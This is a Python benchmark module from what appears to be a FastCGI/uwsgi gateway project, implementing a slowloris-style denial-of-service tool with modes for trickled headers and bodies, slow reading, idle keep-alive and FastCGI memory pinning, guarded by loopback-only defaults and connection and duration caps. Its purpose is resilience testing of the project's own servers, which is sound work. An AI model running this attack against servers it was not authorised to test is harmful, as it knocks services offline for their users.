"""Slowloris-style load against a FastCGI, uwsgi or HTTP server you run: many connections, each one slow.

A worker that reads a request itself, or writes a response itself, is held for as long as the client on the other
end takes; a few hundred such clients hold every worker of a prefork server while costing the attacker almost
nothing. This tool opens N such connections to HOST:PORT (or a unix socket) and keeps them slow for a bounded time,
so you can see what your deployment does about it: which requests still get served, how fast, and what the server
closes.

Modes (``--mode``):

=================  ===============================================================================================
``fcgi-params``    FastCGI: BEGIN_REQUEST, then the PARAMS stream one ``--chunk`` (1 byte) per ``--interval``
``uwsgi-vars``     uwsgi: the 4-byte header and the vars block, one chunk per interval
``fcgi-body``      FastCGI: a complete head declaring a ``--body-size`` body, then STDIN one chunk per interval
``uwsgi-body``     uwsgi: a complete header+vars declaring a body, then the body one chunk per interval
``http-body``      HTTP (through nginx, say): a POST with Content-Length, the body one chunk per interval
``slow-reader``    a complete request (``--protocol fcgi|uwsgi|http``) for a large response (``--path``), then
                   ``--read-bytes`` per interval from a small receive buffer
``idle-keepalive`` FastCGI with FCGI_KEEP_CONN: one complete request at full speed, then the connection sits idle
``http-headers``   HTTP: the request head (padded), one chunk per interval (the classic slowloris)
``http-idle``      HTTP/1.1 keep-alive: one complete request at full speed, then the connection sits idle
``fcgi-pin``       FastCGI, multiplexed: ``--pin-ids`` request ids, each with ``--pin-size`` bytes of params sent
                   at full speed and never ended, then the connection sits (the memory-pinning attack of #16)
=================  ===============================================================================================

A connection the server closes is counted (closed-by-server) and, unless ``--no-reconnect``, opened again after an
interval: the pressure a real slowloris keeps up. Progress is printed once per second and a summary at the end.

Safety bounds, enforced by :func:`run` as well as by the command line: at most 20000 connections, a required
``--duration`` of at most an hour, and loopback targets only unless ``--i-own-this-target HOST`` repeats the
``--host`` exactly (a deliberate act for a machine you are responsible for).

Importable: ``await run(Config(mode="fcgi-params", port=9000, connections=50, duration=10))`` returns a
:class:`Summary`; pass ``stop=`` an :class:`asyncio.Event` to end it early and ``on_progress=`` for the ticks.
In a process of its own (how ``make bench-slow`` runs it, so the attacker's event loop is not the harness's):
``command_line(config)`` gives the arguments, ``--json`` prints every tick and the summary as JSON lines
(``summary_from`` reads them back), and SIGTERM or SIGINT ends the run early with its summary.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import ipaddress
import json
import resource
import signal
import socket
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import asdict, dataclass, field, fields
from typing import Any

from gateway.protocols.fastcgi import (
    ClientConnection,
    EndRequest,
    encode_begin,
    encode_params,
    encode_request,
    encode_stdin,
)
from gateway.protocols.fastcgi.records import HEADER as FCGI_HEADER
from gateway.protocols.fastcgi.records import MAX_CONTENT, VERSION, RecordType
from gateway.protocols.uwsgi import encode_request as uwsgi_request

MODES: dict[str, str] = {
    "fcgi-params": "FastCGI: trickle the PARAMS stream",
    "uwsgi-vars": "uwsgi: trickle the header and vars block",
    "fcgi-body": "FastCGI: complete head, then trickle a large declared body (STDIN)",
    "uwsgi-body": "uwsgi: complete header+vars, then trickle a large declared body",
    "http-body": "HTTP: a POST head with Content-Length, then trickle the body",
    "slow-reader": "a request for a large response, read a few bytes per interval",
    "idle-keepalive": "FastCGI keep-conn: one request at full speed, then sit idle",
    "http-headers": "HTTP: trickle the request head (slowloris)",
    "http-idle": "HTTP/1.1 keep-alive: one request at full speed, then sit idle",
    "fcgi-pin": "FastCGI: many request ids of params that never end, at full speed, then sit",
}
PROTOCOLS = ("fcgi", "uwsgi", "http")
LOOPS = ("uvloop", "asyncio")
MAX_CONNECTIONS = 20000
MAX_DURATION = 3600.0
MIN_INTERVAL = 0.001
#: Below nginx's default client_max_body_size (1m), so an http-body trickle reaches the backend of a stock nginx.
DEFAULT_BODY_SIZE = 1_000_000
#: Keeps a params/vars block under uWSGI's default 4 KiB buffer-size, so uWSGI sees the trickle instead of
#: rejecting an oversized head at once; still long enough to last 2000 intervals one byte at a time.
DEFAULT_PAD = 2048
#: fcgi-pin: 16 ids of just under 64 KiB of params (our --max-params-size) each, about 1 MiB per connection: under
#: our per-connection budget, so a thousand of them are the loop-wide budget's to hold (issue #16's target).
DEFAULT_PIN_IDS = 16
DEFAULT_PIN_SIZE = 65000
#: File descriptors the process needs besides the connections (stdio, the event loop, a log, a subprocess pipe).
_FD_HEADROOM = 100
_REQUEST_ID = 1
_RECV_SIZE = 65536


class TargetRefused(ValueError):
    """The target is not on loopback and the operator did not name it with ``--i-own-this-target``."""


@dataclass(frozen=True)
class Config:
    """What to attack and how hard; :meth:`validate` enforces the safety bounds."""

    mode: str
    port: int | None = None
    host: str = "127.0.0.1"
    unix: str | None = None
    connections: int = 100
    duration: float = 10.0
    interval: float = 1.0
    path: str = "/"
    ramp: float = 0.0
    #: slow-reader only: which protocol the request speaks.
    protocol: str = "http"
    #: *-body modes: the declared body size.
    body_size: int = DEFAULT_BODY_SIZE
    #: trickle modes: bytes sent per interval.
    chunk: int = 1
    #: slow-reader: bytes read per interval, from a receive buffer of ``receive_buffer`` bytes.
    read_bytes: int = 16
    receive_buffer: int = 4096
    #: fcgi-params and uwsgi-vars: bytes of an extra ``X-Slowloris-Pad`` header, so the head lasts.
    pad: int = DEFAULT_PAD
    #: fcgi-pin: request ids opened per connection, and params bytes sent for each.
    pin_ids: int = DEFAULT_PIN_IDS
    pin_size: int = DEFAULT_PIN_SIZE
    connect_timeout: float = 5.0
    reconnect: bool = True
    #: A non-loopback host is refused unless this repeats it exactly.
    owned_target: str | None = None
    server_name: str = "localhost"

    def validate(self) -> None:
        """Raise ValueError for anything out of bounds; called by :func:`run`, so API users get the same limits."""
        if self.mode not in MODES:
            raise ValueError(f"unknown mode {self.mode!r}; one of: {', '.join(MODES)}")
        if self.protocol not in PROTOCOLS:
            raise ValueError(f"unknown protocol {self.protocol!r}; one of: {', '.join(PROTOCOLS)}")
        if (self.unix is None) == (self.port is None):
            raise ValueError("give exactly one target: a port (with --host) or a unix socket path")
        if self.port is not None and not 0 < self.port < 65536:
            raise ValueError(f"port {self.port} is out of range")
        if not 0 < self.connections <= MAX_CONNECTIONS:
            raise ValueError(f"--connections must be 1..{MAX_CONNECTIONS}, not {self.connections}")
        if not 0 < self.duration <= MAX_DURATION:
            raise ValueError(f"--duration must be in (0, {MAX_DURATION:.0f}] seconds, not {self.duration}")
        if self.interval < MIN_INTERVAL:
            raise ValueError(f"--interval must be at least {MIN_INTERVAL} s")
        if self.ramp < 0 or self.ramp > self.duration:
            raise ValueError("--ramp must be between 0 and --duration")
        for name in ("chunk", "read_bytes", "receive_buffer", "body_size", "pin_ids", "pin_size"):
            if getattr(self, name) < 1:
                raise ValueError(f"--{name.replace('_', '-')} must be positive")
        if self.pad < 0 or self.connect_timeout <= 0:
            raise ValueError("--pad must be >= 0 and --connect-timeout > 0")
        if not self.path.startswith("/"):
            raise ValueError("--path must start with /")

    @property
    def target(self) -> str:
        return f"unix:{self.unix}" if self.unix else f"{self.host}:{self.port}"


@dataclass
class Summary:
    """Counts for one run. ``open`` is a gauge (connections open now); everything else only grows."""

    mode: str
    target: str
    connections: int
    attempted: int = 0
    opened: int = 0
    #: connection attempts refused, reset or timed out.
    failed: int = 0
    #: connections the server closed (or reset) before our request was complete, or while one sat idle.
    closed_by_server: int = 0
    #: responses received in full (a trickle that ran to its end, the idle-keepalive first request, ...).
    completed: int = 0
    open: int = 0
    peak_open: int = 0
    open_at_end: int = 0
    bytes_sent: int = 0
    bytes_received: int = 0
    elapsed: float = 0.0
    errors: Counter[str] = field(default_factory=Counter)

    def progress_line(self) -> str:
        return (
            f"[{self.elapsed:6.1f} s] open {self.open:5d}  failed {self.failed:5d}  "
            f"closed-by-server {self.closed_by_server:5d}  completed {self.completed:5d}  "
            f"sent {_size(self.bytes_sent)}  received {_size(self.bytes_received)}"
        )

    def report(self) -> str:
        lines = [
            f"slowloris summary: {self.mode} against {self.target}, {self.elapsed:.1f} s",
            f"  connections wanted    {self.connections}",
            f"  connect attempts      {self.attempted}",
            f"  opened                {self.opened}",
            f"  failed to connect     {self.failed}",
            f"  closed by server      {self.closed_by_server}",
            f"  completed responses   {self.completed}",
            f"  peak open             {self.peak_open}",
            f"  open at the end       {self.open_at_end}",
            f"  sent / received       {_size(self.bytes_sent)} / {_size(self.bytes_received)}",
        ]
        if self.errors:
            lines.append("  errors                " + ", ".join(f"{k} x{v}" for k, v in self.errors.most_common()))
        return "\n".join(lines)

    def as_dict(self) -> dict[str, Any]:
        data = asdict(self)
        data["errors"] = dict(self.errors)
        return data


def _size(count: int) -> str:
    value = float(count)
    for unit in ("B", "KiB", "MiB", "GiB"):
        if value < 1024 or unit == "GiB":
            return f"{value:.0f} {unit}" if unit == "B" else f"{value:.1f} {unit}"
        value /= 1024
    raise AssertionError("unreachable")


# -- the requests -----------------------------------------------------------------------------------------------
def _cgi_vars(config: Config, method: str, content_length: int, *, path_key: str, pad: int) -> list[tuple[str, str]]:
    """The variables nginx's stock ``fastcgi_params``/``uwsgi_params`` send; the path goes in ``path_key``."""
    script, _, query = config.path.partition("?")
    pairs = [
        ("QUERY_STRING", query),
        ("REQUEST_METHOD", method),
        ("CONTENT_TYPE", "application/octet-stream" if content_length else ""),
        ("CONTENT_LENGTH", str(content_length) if content_length else ""),
        (path_key, script),
        ("REQUEST_URI", config.path),
        ("DOCUMENT_URI", script),
        ("DOCUMENT_ROOT", "/var/www"),
        ("SERVER_PROTOCOL", "HTTP/1.1"),
        ("REQUEST_SCHEME", "http"),
        ("GATEWAY_INTERFACE", "CGI/1.1"),
        ("SERVER_SOFTWARE", "slowloris"),
        ("REMOTE_ADDR", "127.0.0.1"),
        ("REMOTE_PORT", "40000"),
        ("SERVER_ADDR", "127.0.0.1"),
        ("SERVER_PORT", "80"),
        ("SERVER_NAME", config.server_name),
        ("HTTP_HOST", config.server_name),
        ("HTTP_USER_AGENT", "slowloris (benchmarks)"),
    ]
    if pad:
        pairs.append(("HTTP_X_SLOWLORIS_PAD", "p" * pad))
    return pairs


def fcgi_params(config: Config, method: str, content_length: int = 0, pad: int = 0) -> list[tuple[str, str]]:
    return _cgi_vars(config, method, content_length, path_key="SCRIPT_NAME", pad=pad)


def uwsgi_vars(config: Config, method: str, content_length: int = 0, pad: int = 0) -> list[tuple[str, str]]:
    return _cgi_vars(config, method, content_length, path_key="PATH_INFO", pad=pad)


def http_head(config: Config, method: str, content_length: int = 0, *, pad: int = 0, keep_alive: bool = False) -> bytes:
    lines = [
        f"{method} {config.path} HTTP/1.1",
        f"Host: {config.server_name}",
        "User-Agent: slowloris (benchmarks)",
    ]
    if not keep_alive:
        lines.append("Connection: close")
    if pad:
        lines.append("X-Pad: " + "p" * pad)
    if content_length:
        lines += ["Content-Type: application/octet-stream", f"Content-Length: {content_length}"]
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1")


def _filler(size: int) -> Iterator[bytes]:
    block = b"x" * 65536
    left = size
    while left > 0:
        yield block[: min(left, len(block))]
        left -= min(left, len(block))


def _fcgi_stdin(size: int) -> Iterator[bytes]:
    """A ``size``-byte STDIN stream as records (header, then content), ended by the empty record."""
    left = size
    while left > 0:
        block = min(left, MAX_CONTENT)
        yield FCGI_HEADER.pack(VERSION, RecordType.STDIN, _REQUEST_ID, block, 0)
        yield b"x" * block
        left -= block
    yield FCGI_HEADER.pack(VERSION, RecordType.STDIN, _REQUEST_ID, 0, 0)


def regroup(parts: Iterable[bytes], size: int) -> Iterator[bytes]:
    """Re-cut a byte stream into pieces of ``size`` bytes (the last may be shorter), lazily: a 1 GiB declared body
    is never built in memory, and each part is copied once however small the pieces."""
    carry = b""
    for part in parts:
        data = carry + part
        end = len(data) - len(data) % size
        for offset in range(0, end, size):
            yield data[offset : offset + size]
        carry = data[end:]
    if carry:
        yield carry


def trickle_plan(config: Config) -> tuple[bytes, Iterator[bytes]]:
    """For a trickle mode: what to send at once, and the pieces to send one per interval."""
    mode, chunk = config.mode, config.chunk
    if mode == "fcgi-params":
        params = fcgi_params(config, "GET", pad=config.pad)
        rest = encode_params(_REQUEST_ID, params) + encode_stdin(_REQUEST_ID, b"")
        return encode_begin(_REQUEST_ID, keep_conn=False), regroup([rest], chunk)
    if mode == "uwsgi-vars":
        return b"", regroup([uwsgi_request(uwsgi_vars(config, "GET", pad=config.pad))], chunk)
    if mode == "http-headers":
        return b"", regroup([http_head(config, "GET", pad=config.pad)], chunk)
    size = config.body_size
    if mode == "fcgi-body":
        head = encode_begin(_REQUEST_ID, keep_conn=False) + encode_params(
            _REQUEST_ID, fcgi_params(config, "POST", size)
        )
        return head, regroup(_fcgi_stdin(size), chunk)
    if mode == "uwsgi-body":
        return uwsgi_request(uwsgi_vars(config, "POST", size)), regroup(_filler(size), chunk)
    if mode == "http-body":
        return http_head(config, "POST", size), regroup(_filler(size), chunk)
    raise ValueError(f"{mode} is not a trickle mode")


def pin_payload(config: Config) -> bytes:
    """fcgi-pin: BEGIN_REQUEST (keep-conn) and ``pin_size`` bytes of a params stream that never ends (no empty
    PARAMS record), for each of ``pin_ids`` request ids."""
    pad = {"HTTP_X_PAD": "p" * max(config.pin_size - 14, 1)}
    return b"".join(
        encode_begin(request_id, keep_conn=True) + encode_params(request_id, pad)[:-8]
        for request_id in range(1, config.pin_ids + 1)
    )


class _ResponseTracker:
    """Follows a response just far enough to tell a complete one from a cut one."""

    def __init__(self, protocol: str) -> None:
        self.protocol = protocol
        self.fcgi = ClientConnection() if protocol == "fcgi" else None
        self.ended = False
        self.head = bytearray()
        self.body_expected: int | None = None
        self.body_seen = 0
        self.any = False

    def feed(self, data: bytes) -> None:
        self.any = True
        if self.fcgi is not None:
            if any(isinstance(event, EndRequest) for event in self.fcgi.receive_data(data)):
                self.ended = True
            return
        if self.body_expected is None:
            self.head += data
            head, separator, body = bytes(self.head).partition(b"\r\n\r\n")
            if not separator:
                return
            self.body_expected = -1
            for line in head.split(b"\r\n")[1:]:
                name, _, value = line.partition(b":")
                if name.strip().lower() == b"content-length" and value.strip().isdigit():
                    self.body_expected = int(value)
            data = body
        self.body_seen += len(data)
        if 0 <= self.body_expected <= self.body_seen:
            self.ended = True

    def complete_at_eof(self) -> bool:
        """At EOF: FastCGI needs END_REQUEST; HTTP needs its Content-Length, or any response without one."""
        if self.fcgi is not None:
            return self.ended
        return self.ended or (self.any and self.body_expected == -1)


# -- the connections --------------------------------------------------------------------------------------------
class _Attack:
    """N slots, each keeping one slow connection going until it is cancelled at the deadline."""

    def __init__(self, config: Config, family: int, address: Any, summary: Summary) -> None:
        self.config = config
        self.family = family
        self.address = address
        self.summary = summary
        self.loop = asyncio.get_running_loop()

    async def slot(self, index: int) -> None:
        config = self.config
        if config.ramp and config.connections > 1:
            await asyncio.sleep(config.ramp * index / config.connections)
        while True:
            sock = await self._connect()
            if sock is not None:
                try:
                    await self._converse(sock)
                except OSError as err:  # reset or broken pipe while we were sending or reading
                    self.summary.closed_by_server += 1
                    self.summary.errors[type(err).__name__] += 1
                finally:
                    sock.close()
                    self.summary.open -= 1
            if not config.reconnect:
                return
            await asyncio.sleep(config.interval)

    async def _connect(self) -> socket.socket | None:
        summary = self.summary
        summary.attempted += 1
        sock = socket.socket(self.family, socket.SOCK_STREAM)
        try:
            sock.setblocking(False)
            if self.family != socket.AF_UNIX:
                sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            if self.config.mode == "slow-reader":
                # Set before connecting, so the advertised window starts small: the server's writes block early.
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, self.config.receive_buffer)
            async with asyncio.timeout(self.config.connect_timeout):
                await self.loop.sock_connect(sock, self.address)
        except (OSError, TimeoutError) as err:
            sock.close()
            summary.failed += 1
            summary.errors[f"connect: {type(err).__name__}"] += 1
            return None
        except BaseException:
            sock.close()
            raise
        summary.opened += 1
        summary.open += 1
        summary.peak_open = max(summary.peak_open, summary.open)
        return sock

    async def _send(self, sock: socket.socket, data: bytes) -> None:
        await self.loop.sock_sendall(sock, data)
        self.summary.bytes_sent += len(data)

    async def _converse(self, sock: socket.socket) -> None:
        mode = self.config.mode
        if mode == "slow-reader":
            await self._slow_reader(sock)
        elif mode in ("idle-keepalive", "http-idle"):
            await self._idle_keepalive(sock)
        elif mode == "fcgi-pin":
            await self._pin(sock)
        else:
            await self._trickle(sock)

    async def _drain(self, sock: socket.socket, tracker: _ResponseTracker) -> None:
        """Read whatever the server sends until it closes."""
        while data := await self.loop.sock_recv(sock, _RECV_SIZE):
            self.summary.bytes_received += len(data)
            tracker.feed(data)

    async def _trickle(self, sock: socket.socket) -> None:
        head, pieces = trickle_plan(self.config)
        protocol = "fcgi" if self.config.mode.startswith("fcgi") else "http"
        tracker = _ResponseTracker(protocol)
        if head:
            await self._send(sock, head)
        # The reader runs beside the trickle so a server that answers early (400, 408, 413) or closes is noticed
        # within one interval rather than at the next failing send.
        reader = asyncio.ensure_future(self._drain(sock, tracker))
        try:
            for piece in pieces:
                done, _ = await asyncio.wait({reader}, timeout=self.config.interval)
                if done:
                    self.summary.closed_by_server += 1
                    return
                await self._send(sock, piece)
            await reader
            if tracker.complete_at_eof():
                self.summary.completed += 1
            else:
                self.summary.closed_by_server += 1
        finally:
            reader.cancel()
            with contextlib.suppress(asyncio.CancelledError, OSError):
                await reader

    async def _pin(self, sock: socket.socket) -> None:
        """Open the ids and send their params as fast as the server takes them, never ending one; then wait for
        the server to close (at its header timeout, or a budget)."""
        await self._send(sock, pin_payload(self.config))
        await self._drain(sock, _ResponseTracker("fcgi"))
        self.summary.closed_by_server += 1

    def _request(self) -> bytes:
        config = self.config
        if config.mode == "http-idle":
            return http_head(config, "GET", keep_alive=True)
        if config.protocol == "fcgi" or config.mode == "idle-keepalive":
            keep = config.mode == "idle-keepalive"
            return encode_request(_REQUEST_ID, fcgi_params(config, "GET"), keep_conn=keep)
        if config.protocol == "uwsgi":
            return uwsgi_request(uwsgi_vars(config, "GET"))
        return http_head(config, "GET")

    async def _slow_reader(self, sock: socket.socket) -> None:
        config = self.config
        tracker = _ResponseTracker(config.protocol)
        await self._send(sock, self._request())
        while True:
            await asyncio.sleep(config.interval)
            data = await self.loop.sock_recv(sock, config.read_bytes)
            if not data:
                break
            self.summary.bytes_received += len(data)
            tracker.feed(data)
        if tracker.complete_at_eof():
            self.summary.completed += 1
        else:
            self.summary.closed_by_server += 1

    async def _idle_keepalive(self, sock: socket.socket) -> None:
        tracker = _ResponseTracker("http" if self.config.mode == "http-idle" else "fcgi")
        await self._send(sock, self._request())
        while not tracker.ended:
            data = await self.loop.sock_recv(sock, _RECV_SIZE)
            if not data:
                self.summary.closed_by_server += 1
                return
            self.summary.bytes_received += len(data)
            tracker.feed(data)
        self.summary.completed += 1
        # Idle now: anything but a cancellation at the deadline means the server closed (or spoke unasked).
        data = await self.loop.sock_recv(sock, _RECV_SIZE)
        self.summary.bytes_received += len(data)
        self.summary.closed_by_server += 1


# -- running ----------------------------------------------------------------------------------------------------
def is_loopback(address: str) -> bool:
    try:
        ip = ipaddress.ip_address(address.split("%", 1)[0])
    except ValueError:
        return False
    if isinstance(ip, ipaddress.IPv6Address) and ip.ipv4_mapped is not None:
        return ip.ipv4_mapped.is_loopback
    return ip.is_loopback


async def resolve_target(config: Config) -> tuple[int, Any]:
    """The socket family and address to connect to; raises TargetRefused for an unnamed non-loopback host."""
    if config.unix is not None:
        return socket.AF_UNIX, config.unix
    loop = asyncio.get_running_loop()
    infos = await loop.getaddrinfo(config.host, config.port, type=socket.SOCK_STREAM)
    if not infos:
        raise TargetRefused(f"{config.host} does not resolve")
    addresses = sorted({str(info[4][0]) for info in infos})
    if not all(is_loopback(address) for address in addresses) and config.owned_target != config.host:
        raise TargetRefused(
            f"{config.host} resolves to {', '.join(addresses)}, not loopback: refusing. If this is a deployment "
            f"you are responsible for, say so with --i-own-this-target {config.host}"
        )
    family, _, _, _, address = infos[0]
    return int(family), address


def raise_fd_limit(connections: int) -> None:
    """Lift the soft (and, as root, the hard) open-files limit to what ``connections`` need, or say what to do."""
    needed = connections + _FD_HEADROOM
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft == resource.RLIM_INFINITY or soft >= needed:
        return
    new_hard = hard if hard == resource.RLIM_INFINITY or hard >= needed else needed
    try:
        resource.setrlimit(resource.RLIMIT_NOFILE, (needed, new_hard))
    except (ValueError, OSError):
        ceiling = hard if hard != resource.RLIM_INFINITY else needed
        if ceiling < needed:
            raise ValueError(
                f"{connections} connections need {needed} open files but the hard limit is {hard}: "
                "raise it (ulimit -Hn, or LimitNOFILE=) or ask for fewer connections"
            ) from None
        resource.setrlimit(resource.RLIMIT_NOFILE, (needed, hard))


async def run(
    config: Config,
    *,
    stop: asyncio.Event | None = None,
    on_progress: Callable[[Summary], None] | None = None,
) -> Summary:
    """Run the attack until ``config.duration`` passes, every slot gives up (``reconnect=False``), or ``stop`` is
    set; close every connection and return the counts."""
    config.validate()
    family, address = await resolve_target(config)
    raise_fd_limit(config.connections)
    summary = Summary(config.mode, config.target, config.connections)
    attack = _Attack(config, family, address, summary)
    started = time.monotonic()
    slots = [asyncio.ensure_future(attack.slot(index)) for index in range(config.connections)]
    everything = asyncio.gather(*slots, return_exceptions=True)
    waiters: set[asyncio.Future[Any]] = {everything}
    stopper = asyncio.ensure_future(stop.wait()) if stop is not None else None
    if stopper is not None:
        waiters.add(stopper)

    async def tick() -> None:
        while True:
            await asyncio.sleep(1.0)
            summary.elapsed = time.monotonic() - started
            if on_progress is not None:
                on_progress(summary)

    ticker = asyncio.ensure_future(tick())
    try:
        await asyncio.wait(waiters, timeout=config.duration, return_when=asyncio.FIRST_COMPLETED)
    finally:
        summary.open_at_end = summary.open
        for task in (*slots, ticker, *([stopper] if stopper else [])):
            task.cancel()
        results = await everything
        with contextlib.suppress(asyncio.CancelledError):
            await ticker
        for result in results:
            if isinstance(result, BaseException) and not isinstance(result, asyncio.CancelledError):
                summary.errors[f"slot: {type(result).__name__}: {result}"] += 1
        summary.elapsed = time.monotonic() - started
    return summary


def _parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="python -m benchmarks.slowloris",
        description="Open many slow connections to a FastCGI, uwsgi or HTTP server you run, for a bounded time.",
        epilog="Modes: " + "; ".join(f"{name}: {what}" for name, what in MODES.items()),
    )
    parser.add_argument("--mode", required=True, choices=list(MODES))
    parser.add_argument(
        "--host", default="127.0.0.1", help="target host; loopback only unless --i-own-this-target names it"
    )
    parser.add_argument("--port", type=int, help="target port")
    parser.add_argument("--unix", metavar="PATH", help="target unix socket instead of --host/--port")
    parser.add_argument("--connections", type=int, default=100, help=f"slow connections (at most {MAX_CONNECTIONS})")
    parser.add_argument("--duration", type=float, required=True, help=f"seconds to run (at most {MAX_DURATION:.0f})")
    parser.add_argument("--interval", type=float, default=1.0, help="seconds between two trickles or reads")
    parser.add_argument("--path", default="/", help="request path (and ?query); slow-reader wants a large response")
    parser.add_argument("--ramp", type=float, default=0.0, help="seconds over which connections are opened")
    parser.add_argument("--protocol", choices=PROTOCOLS, default="http", help="slow-reader: the request's protocol")
    parser.add_argument("--body-size", type=int, default=DEFAULT_BODY_SIZE, help="*-body: declared body bytes")
    parser.add_argument("--chunk", type=int, default=1, help="trickle modes: bytes sent per interval")
    parser.add_argument("--read-bytes", type=int, default=16, help="slow-reader: bytes read per interval")
    parser.add_argument("--receive-buffer", type=int, default=4096, help="slow-reader: SO_RCVBUF bytes")
    parser.add_argument("--pad", type=int, default=DEFAULT_PAD, help="fcgi-params/uwsgi-vars: padding header bytes")
    parser.add_argument("--pin-ids", type=int, default=DEFAULT_PIN_IDS, help="fcgi-pin: request ids per connection")
    parser.add_argument("--pin-size", type=int, default=DEFAULT_PIN_SIZE, help="fcgi-pin: params bytes per id")
    parser.add_argument("--connect-timeout", type=float, default=5.0)
    parser.add_argument(
        "--no-reconnect", dest="reconnect", action="store_false", help="do not reopen connections the server closed"
    )
    parser.add_argument("--server-name", default="localhost", help="Host header / SERVER_NAME")
    parser.add_argument(
        "--i-own-this-target", dest="owned_target", metavar="HOST", help="allow a non-loopback --host: repeat it"
    )
    parser.add_argument("--quiet", action="store_true", help="no progress lines")
    parser.add_argument(
        "--json",
        action="store_true",
        help='one JSON object a line: each progress tick ("final": false), then the summary ("final": true)',
    )
    parser.add_argument(
        "--loop", choices=LOOPS, default="uvloop", help="the event loop (uvloop when installed; asyncio's own)"
    )
    return parser


#: The command line's options that are not Config fields.
_CLI_ONLY = ("quiet", "json", "loop")
#: Config fields whose option is not their name with dashes.
_FLAG_NAMES = {"owned_target": "--i-own-this-target"}


def command_line(config: Config, *, loop: str = "uvloop") -> list[str]:
    """The arguments after ``python -m benchmarks.slowloris`` that run ``config`` (what differs from the
    defaults), with ``--json`` progress: how the benchmarks start an attack in a process of its own."""
    # --duration is required on the command line, whatever the default of the field.
    args = ["--mode", config.mode, "--duration", str(config.duration), "--loop", loop, "--json"]
    defaults = Config(mode=config.mode)
    for item in fields(Config):
        name = item.name
        value = getattr(config, name)
        if name in ("mode", "duration") or value == getattr(defaults, name):
            continue
        if name == "reconnect":
            args.append("--no-reconnect")
            continue
        args += [_FLAG_NAMES.get(name, "--" + name.replace("_", "-")), str(value)]
    return args


def _new_loop(kind: str = "uvloop") -> asyncio.AbstractEventLoop:
    """uvloop when it is installed (it is, with our project) and asked for: 20000 sockets cost less CPU there,
    and on a small machine the attacker's CPU is taken from the server it measures (benchmarks/RESULTS.md)."""
    if kind == "uvloop":
        try:
            import uvloop  # noqa: PLC0415 - optional: the tool also runs on the standard loop
        except ImportError:
            return asyncio.new_event_loop()
        return uvloop.new_event_loop()
    return asyncio.new_event_loop()


async def _until_signalled(config: Config, on_progress: Callable[[Summary], None] | None) -> Summary:
    """``run``, ended early (with its summary) by SIGTERM or SIGINT: how a benchmark stops an attack it started."""
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    for signum in (signal.SIGTERM, signal.SIGINT):
        loop.add_signal_handler(signum, stop.set)
    try:
        return await run(config, stop=stop, on_progress=on_progress)
    finally:
        for signum in (signal.SIGTERM, signal.SIGINT):
            loop.remove_signal_handler(signum)


def main(argv: Sequence[str] | None = None) -> int:
    parser = _parser()
    args = parser.parse_args(argv)
    options = {key: value for key, value in vars(args).items() if key not in _CLI_ONLY}
    config = Config(**options)
    try:
        config.validate()
    except ValueError as err:
        parser.error(str(err))
    if not args.quiet and not args.json:
        print(
            f"slowloris: {config.connections} x {config.mode} against {config.target} for {config.duration:g} s "
            f"(every {config.interval:g} s, ramp {config.ramp:g} s); Ctrl-C stops early",
            flush=True,
        )

    def progress(summary: Summary) -> None:
        if args.json:
            print(json.dumps({**summary.as_dict(), "final": False}), flush=True)
        else:
            print(summary.progress_line(), flush=True)

    try:
        with asyncio.Runner(loop_factory=lambda: _new_loop(args.loop)) as runner:
            summary = runner.run(_until_signalled(config, None if args.quiet else progress))
    except TargetRefused as err:
        print(f"slowloris: {err}", file=sys.stderr)
        return 2
    except ValueError as err:
        print(f"slowloris: {err}", file=sys.stderr)
        return 2
    except KeyboardInterrupt:  # before the handlers are in place
        print("slowloris: interrupted", file=sys.stderr)
        return 130
    print(json.dumps({**summary.as_dict(), "final": True}) if args.json else summary.report(), flush=True)
    return 0


def summary_from(data: dict[str, Any]) -> Summary:
    """A :class:`Summary` back from one of ``--json``'s lines."""
    known = {item.name for item in fields(Summary)}
    values = {key: value for key, value in data.items() if key in known}
    values["errors"] = Counter(values.get("errors", {}))
    return Summary(**values)


if __name__ == "__main__":
    raise SystemExit(main())
